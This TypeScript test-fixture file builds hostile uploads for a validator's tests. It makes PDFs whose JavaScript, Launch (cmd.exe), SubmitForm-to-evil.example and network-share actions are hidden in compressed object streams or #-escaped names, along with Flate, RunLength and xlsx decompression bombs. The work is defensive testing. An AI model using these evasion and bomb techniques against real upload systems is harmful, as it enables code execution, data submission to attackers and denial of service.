// Hostile files built in the test, shared by the unit tests (src/lib/server/uploads,
// src/lib/server/roster/parse) and the HTTP attack tests: PDFs whose active content sits where a
// byte search does not look (compressed object streams, #-escaped names, Flate-compressed XFA),
// and spreadsheets that unzip to far more than they weigh.
import {
	PDFArray,
	PDFDocument,
	PDFName,
	PDFString,
	type PDFContext,
	type PDFObject,
	type PDFPage
} from '@cantoo/pdf-lib';
import { crc32, createDeflate, createDeflateRaw, deflateRawSync, deflateSync } from 'node:zlib';

const latin1 = (text: string) => Buffer.from(text, 'latin1');
const s = (text: string) => PDFString.of(text);

/**
 * A one-page document written by pdf-lib with object streams: every dictionary, the catalog and
 * its actions included, is Flate-compressed inside a /Type /ObjStm stream.
 */
async function authored(
	edit: (doc: PDFDocument, page: PDFPage, ctx: PDFContext) => void | Promise<void>
) {
	const doc = await PDFDocument.create({ updateMetadata: false });
	const page = doc.addPage([300, 200]);
	page.drawText('Notice', { x: 20, y: 100, size: 14 });
	await edit(doc, page, doc.context);
	return Buffer.from(await doc.save({ useObjectStreams: true }));
}

/** The catalog itself is never compressed, so the value goes into an object of its own. */
function setInCatalog(doc: PDFDocument, key: string, value: PDFObject) {
	doc.catalog.set(PDFName.of(key), doc.context.register(value));
}

function annotate(page: PDFPage, ctx: PDFContext, annotation: Record<string, unknown>) {
	const dict = ctx.obj({ Type: 'Annot', Rect: [10, 10, 100, 40] });
	for (const [key, value] of Object.entries(annotation)) {
		dict.set(PDFName.of(key), ctx.obj(value as never));
	}
	page.node.set(PDFName.of('Annots'), ctx.obj([ctx.register(dict)]));
}

function linkWith(action: Record<string, unknown>) {
	return (_doc: PDFDocument, page: PDFPage, ctx: PDFContext) =>
		annotate(page, ctx, { Subtype: 'Link', A: action });
}

/** A PDF with a correct cross-reference table, written by hand; object 1 is the catalog. */
export function handMadePdf(objects: (string | Buffer)[], trailer = ''): Buffer {
	const parts: Buffer[] = [
		Buffer.concat([latin1('%PDF-1.7\n%'), Buffer.from([0xe2, 0xe3, 0xcf, 0xd3]), latin1('\n')])
	];
	const offsets: number[] = [];
	let offset = parts[0].length;
	objects.forEach((object, i) => {
		const part = Buffer.concat([
			latin1(`${i + 1} 0 obj\n`),
			typeof object === 'string' ? latin1(object) : object,
			latin1('\nendobj\n')
		]);
		offsets.push(offset);
		offset += part.length;
		parts.push(part);
	});
	const xref =
		`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n` +
		offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('') +
		`trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${offset}\n%%EOF\n`;
	return Buffer.concat([...parts, latin1(xref)]);
}

export function streamObject(data: Buffer, dictionary = ''): Buffer {
	return Buffer.concat([
		latin1(`<< /Length ${data.length} ${dictionary} >>\nstream\n`),
		data,
		latin1('\nendstream')
	]);
}

const PAGE_TREE = [
	'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
	'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>'
];

/** Object 4 sits Flate-compressed in an object stream (object 5); the catalog points at it. */
function inObjectStream(
	catalogEntries: string,
	object4: string,
	filter = '/Filter /FlateDecode',
	data?: Buffer
) {
	const content = latin1(`4 0 ${object4}`);
	return handMadePdf([
		`<< /Type /Catalog /Pages 2 0 R ${catalogEntries} >>`,
		...PAGE_TREE,
		'<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
		streamObject(data ?? deflateSync(content), `/Type /ObjStm /N 1 /First 4 ${filter}`)
	]);
}

const XFA_TEMPLATE = `<?xml version="1.0"?>
<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">
<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/">
<subform name="form1"><event activity="initialize">
<script contentType="application/x-javascript">app.alert("xfa")</script>
</event></subform></template></xdp:xdp>`;

/** Each of these must be refused as active content. */
export async function activePdfs(): Promise<[string, Buffer][]> {
	return [
		[
			'a JavaScript /OpenAction in a compressed object stream',
			await authored((doc, _page, ctx) =>
				setInCatalog(doc, 'OpenAction', ctx.obj({ S: 'JavaScript', JS: s('app.alert(1)') }))
			)
		],
		[
			'a document-level /JavaScript name tree',
			await authored((doc, _page, ctx) =>
				setInCatalog(
					doc,
					'Names',
					ctx.obj({
						JavaScript: { Names: [s('init'), { S: 'JavaScript', JS: s('app.alert(2)') }] }
					})
				)
			)
		],
		[
			'an XFA form with JavaScript in a Flate stream',
			await authored((doc, _page, ctx) => {
				const xfa = ctx.register(ctx.flateStream(Buffer.from(XFA_TEMPLATE)));
				setInCatalog(doc, 'AcroForm', ctx.obj({ Fields: [], XFA: xfa }));
			})
		],
		[
			'a /Launch open action',
			await authored((doc, _page, ctx) =>
				setInCatalog(doc, 'OpenAction', ctx.obj({ S: 'Launch', F: s('cmd.exe') }))
			)
		],
		[
			'an /EmbeddedFile',
			await authored((doc) =>
				doc.attach(Buffer.from('MZ\x90\x00'), 'tool.exe', { mimeType: 'application/octet-stream' })
			)
		],
		[
			'a /RichMedia annotation',
			await authored((_doc, page, ctx) =>
				annotate(page, ctx, { Subtype: 'RichMedia', RichMediaContent: {} })
			)
		],
		[
			'a page /AA (even one that only opens a web page)',
			await authored((_doc, page, ctx) =>
				page.node.set(
					PDFName.of('AA'),
					ctx.obj({ O: { S: 'URI', URI: s('https://example.com/') } })
				)
			)
		],
		[
			'a /SubmitForm link',
			await authored(linkWith({ S: 'SubmitForm', F: s('https://evil.example/') }))
		],
		['an /ImportData link', await authored(linkWith({ S: 'ImportData', F: s('C:\\data.fdf') }))],
		[
			'a /GoToR link to a network share',
			await authored(
				linkWith({ S: 'GoToR', F: s('\\\\evil.example\\share\\a.pdf'), D: [0, 'Fit'] })
			)
		],
		[
			'a javascript: link',
			await authored(linkWith({ S: 'URI', URI: s('javascript:app.alert(3)') }))
		],
		[
			'an /OpenAction that opens a web page',
			await authored((doc, _page, ctx) =>
				setInCatalog(doc, 'OpenAction', ctx.obj({ S: 'URI', URI: s('https://evil.example/') }))
			)
		],
		[
			'a #-escaped /J#61vaScript action in a compressed object stream',
			inObjectStream('/OpenAction 4 0 R', '<< /S /J#61vaScript /J#53 (app.alert(4)) >>')
		],
		[
			'a /Launch action in an object stream that does not say it is one',
			handMadePdf([
				'<< /Type /Catalog /Pages 2 0 R >>',
				PAGE_TREE[0],
				'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] ' +
					'/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A 4 0 R >>] >>',
				'<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>',
				streamObject(
					deflateSync(latin1('4 0 << /S /Launch /F (cmd.exe) >>')),
					'/N 1 /First 4 /Filter /FlateDecode'
				)
			])
		],
		[
			'a /JavaScript object hidden in other stream data, where a cross-reference offset can point',
			handMadePdf([
				'<< /Type /Catalog /Pages 2 0 R >>',
				...PAGE_TREE,
				streamObject(
					Buffer.concat([
						Buffer.from([0, 0xff, 0x13]),
						latin1('\n9 0 obj << /S /JavaScript /JS (app.alert(5)) >> endobj\n')
					])
				)
			])
		]
	];
}

/** A valid object stream whose Flate data expands to `megabytes` MB of spaces. */
export async function pdfObjectStreamBomb(megabytes: number): Promise<Buffer> {
	const deflate = createDeflate({ level: 9 });
	const chunks: Buffer[] = [];
	deflate.on('data', (c: Buffer) => chunks.push(c));
	const done = new Promise((resolve) => deflate.on('end', resolve));
	deflate.write(latin1('4 0 << /Type /Font >> '));
	const block = Buffer.alloc(1024 * 1024, 0x20);
	for (let i = 0; i < megabytes; i++) {
		if (!deflate.write(block)) await new Promise((resolve) => deflate.once('drain', resolve));
	}
	deflate.end();
	await done;
	return inObjectStream('', '', '/Filter /FlateDecode', Buffer.concat(chunks));
}

/** The same through RunLengthDecode, which expands 64-fold at most: a 4 MB file, 256 MB decoded. */
export function pdfRunLengthBomb(): Buffer {
	const runs = Buffer.alloc(4 * 1024 * 1024);
	for (let i = 0; i < runs.length; i += 2) runs[i] = 0x81; // repeat the next byte 128 times
	return inObjectStream('', '', '/Filter /RunLengthDecode', runs);
}

/** Ordinary documents that must be accepted. */
export async function ordinaryPdfs(): Promise<[string, Buffer][]> {
	return [
		['a hand-made one-page PDF', handMadePdf(['<< /Type /Catalog /Pages 2 0 R >>', ...PAGE_TREE])],
		[
			'a pdf-lib document with object streams, a web link and an open action that shows page 1',
			await authored((doc, page, ctx) => {
				setInCatalog(doc, 'OpenAction', ctx.obj([page.ref, 'Fit']) as PDFArray);
				linkWith({ S: 'URI', URI: s('https://www.gov.cn/') })(doc, page, ctx);
			})
		]
	];
}

export async function encryptedPdf(): Promise<Buffer> {
	return authored((doc) => doc.encrypt({ userPassword: 'secret', ownerPassword: 'owner' }));
}

const XLSX_PARTS: [string, string][] = [
	[
		'[Content_Types].xml',
		'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
			'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
			'<Default Extension="xml" ContentType="application/xml"/>' +
			'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>' +
			'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
	],
	[
		'_rels/.rels',
		'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
			'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
	],
	[
		'xl/workbook.xml',
		'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">' +
			'<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
	],
	[
		'xl/_rels/workbook.xml.rels',
		'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
			'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
	]
];

interface ZipEntry {
	name: string;
	data: Buffer;
	crc: number;
	size: number;
}

/** Deflates `head`, the blocks `body(0)` … `body(count - 1)`, then `tail`, one block at a time. */
async function deflatePart(
	head: string,
	body: (index: number) => Buffer,
	count: number,
	tail: string
) {
	const deflate = createDeflateRaw({ level: 9 });
	const chunks: Buffer[] = [];
	deflate.on('data', (c: Buffer) => chunks.push(c));
	const done = new Promise((resolve) => deflate.on('end', resolve));
	let crc = 0;
	let size = 0;
	const write = async (bytes: Buffer) => {
		crc = crc32(bytes, crc);
		size += bytes.length;
		if (!deflate.write(bytes)) await new Promise((resolve) => deflate.once('drain', resolve));
	};
	await write(Buffer.from(head));
	for (let i = 0; i < count; i++) await write(body(i));
	await write(Buffer.from(tail));
	deflate.end();
	await done;
	return { data: Buffer.concat(chunks), crc, size };
}

function zipOf(entries: ZipEntry[]): Buffer {
	const locals: Buffer[] = [];
	const centrals: Buffer[] = [];
	let offset = 0;
	for (const e of entries) {
		const name = Buffer.from(e.name);
		const local = Buffer.alloc(30);
		local.writeUInt32LE(0x04034b50, 0);
		local.writeUInt16LE(20, 4);
		local.writeUInt16LE(8, 8); // deflate
		local.writeUInt32LE(e.crc >>> 0, 14);
		local.writeUInt32LE(e.data.length, 18);
		local.writeUInt32LE(e.size, 22);
		local.writeUInt16LE(name.length, 26);
		const central = Buffer.alloc(46);
		central.writeUInt32LE(0x02014b50, 0);
		central.writeUInt16LE(20, 4);
		central.writeUInt16LE(20, 6);
		central.writeUInt16LE(8, 10);
		central.writeUInt32LE(e.crc >>> 0, 16);
		central.writeUInt32LE(e.data.length, 20);
		central.writeUInt32LE(e.size, 24);
		central.writeUInt16LE(name.length, 28);
		central.writeUInt32LE(offset, 42);
		locals.push(local, name, e.data);
		centrals.push(central, name);
		offset += 30 + name.length + e.data.length;
	}
	const directory = Buffer.concat(centrals);
	const end = Buffer.alloc(22);
	end.writeUInt32LE(0x06054b50, 0);
	end.writeUInt16LE(entries.length, 8);
	end.writeUInt16LE(entries.length, 10);
	end.writeUInt32LE(directory.length, 12);
	end.writeUInt32LE(offset, 16);
	return Buffer.concat([...locals, directory, end]);
}

const ROW = '<row><c t="inlineStr"><is><t>王建国</t></is></c><c><v>13800138000</v></c></row>';
const ROWS_PER_MEGABYTE = Math.ceil((1024 * 1024) / Buffer.byteLength(ROW));

/** A megabyte of rows with their cell addresses, which read-excel-file needs to read them. */
function addressedRows(block: number): Buffer {
	let xml = '';
	for (let i = 0; i < ROWS_PER_MEGABYTE; i++) {
		const r = block * ROWS_PER_MEGABYTE + i + 1;
		xml += `<row r="${r}"><c r="A${r}" t="inlineStr"><is><t>王建国</t></is></c><c r="B${r}"><v>13800138000</v></c></row>`;
	}
	return Buffer.from(xml);
}

/**
 * An .xlsx whose one sheet holds about `megabytes` MB of rows. By default one row repeated, which
 * compresses about 300-fold; `addressed` numbers the cells so that the sheet can be read.
 * `declaredSize`, when given, is the sheet's uncompressed size as the zip records it (a lying
 * archive).
 */
export async function xlsxBomb(
	megabytes: number,
	options: { declaredSize?: number; addressed?: boolean } = {}
): Promise<Buffer> {
	const repeated = Buffer.from(ROW.repeat(ROWS_PER_MEGABYTE));
	const sheet = await deflatePart(
		'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>',
		options.addressed ? addressedRows : () => repeated,
		megabytes,
		'</sheetData></worksheet>'
	);
	const small = XLSX_PARTS.map(([name, text]) => {
		const bytes = Buffer.from(text);
		return { name, data: deflateRawSync(bytes), crc: crc32(bytes), size: bytes.length };
	});
	const sheetEntry = { name: 'xl/worksheets/sheet1.xml', ...sheet };
	if (options.declaredSize !== undefined) sheetEntry.size = options.declaredSize;
	return zipOf([...small, sheetEntry]);
}
